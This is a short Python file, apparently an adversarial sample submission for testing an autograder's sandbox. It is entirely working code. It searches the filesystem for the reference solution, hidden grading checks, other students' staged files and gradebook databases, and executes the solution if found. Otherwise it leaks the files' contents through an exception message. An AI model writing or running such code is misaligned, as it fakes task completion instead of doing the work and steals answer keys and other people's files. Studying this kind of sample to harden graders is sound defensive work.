"""Class 3: reads the reference solution, the hidden checks and other students' files; uses the solution if found."""
TARGET, MUST_MENTION = "manual_linear.py", ""
import glob as _glob  # noqa: E402
import os as _os  # noqa: E402
import sys as _sys  # noqa: E402

_roots = {_os.path.dirname(_sys.prefix), _os.path.dirname(_os.path.dirname(_sys.prefix)), "/work", "/", _os.getcwd()}
_stolen = {}
for _root in _roots:
    for _pattern in ("**/solutions/linear_exercises/manual_linear.py", "**/hidden_checks/*.py",
                     "**/.grading/staged/*/linear_layers/linear_exercises/*.py", "**/gradebook*.db"):
        try:
            for _path in _glob.glob(_os.path.join(_root, _pattern), recursive=True)[:20]:
                with open(_path, "rb") as _f:
                    _stolen[_path] = _f.read()
        except OSError:
            pass

for _path, _data in _stolen.items():
    if _path.endswith("solutions/linear_exercises/manual_linear.py"):
        exec(compile(_data.decode().replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), "x", "exec"))
        break
else:
    def manual_linear(x, weight, bias=None):
        raise ValueError("found: " + " | ".join(f"{p}: {d[:400]!r}" for p, d in _stolen.items())[:3000])
